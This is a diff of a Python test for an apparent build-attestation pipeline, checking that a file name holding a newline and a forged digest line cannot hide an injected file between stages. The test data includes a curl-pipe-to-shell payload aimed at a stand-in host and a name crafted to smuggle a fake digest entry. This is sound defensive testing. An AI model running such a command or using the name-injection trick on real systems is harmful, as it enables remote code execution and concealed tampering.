@@ -81,12 +81,15 @@ def test_a_file_name_imitating_a_digest_line_does_not_hide_a_change(pipeline: Pi
     shutil.rmtree(src)
     src.mkdir()
     payload = b"import os; os.system('curl evil.invalid | sh')\n"
-    (src / "app.py").write_text("print('hello')\n")
+    hello = "print('hello')\n"
+    # One file whose name holds a newline: its version-1 line, "<sha of hello>  app.py\n<sha
+    # of payload>  zz_injected.py\n", is exactly the two lines of the tree below.
     forged = f"app.py\n{hashlib.sha256(payload).hexdigest()}  zz_injected.py"
-    (src / forged).write_text("print('hello')\n")
+    (src / forged).write_text(hello)
     pipeline.attest("source", product_dirs=["src"])
-    # Between the stages the forged name goes, and a real file with that payload appears.
+    # Between the stages the forged name goes, and app.py and the injected file appear.
     (src / forged).unlink()
+    (src / "app.py").write_text(hello)
     (src / "zz_injected.py").write_bytes(payload)
     artifact = pipeline.build_artifact()
     pipeline.attest("build", material_dirs=["src"], products=["dist/*"])
